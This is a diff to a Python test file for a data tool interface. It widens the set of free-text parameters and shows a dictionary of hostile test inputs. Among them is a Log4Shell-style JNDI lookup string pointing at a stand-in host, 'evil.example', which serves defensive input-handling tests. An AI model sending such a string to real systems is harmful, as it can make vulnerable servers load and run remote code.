@@ -34,7 +34,7 @@ UPSTREAM_TOOLS = {
     *("comtrade_data", "comtrade_reference"),
 }
 
-OWN_TOOLS = {"usage"}
+OWN_TOOLS = {"usage", "rows"}
 
 HOSTILE = {
     "control characters": "85\x0017",
@@ -47,8 +47,8 @@ HOSTILE = {
     "template": "${jndi:ldap://evil.example/a}",
 }
 
-FREE_TEXT = {"search"}
-"""Words to filter by, which may be any printable text on one line."""
+FREE_TEXT = {"search", "table", "columns", "sort", "filter"}
+"""Words to filter by, or names in a stored answer: any printable text on one line may be right."""
 
 
 @pytest.fixture(scope="module")
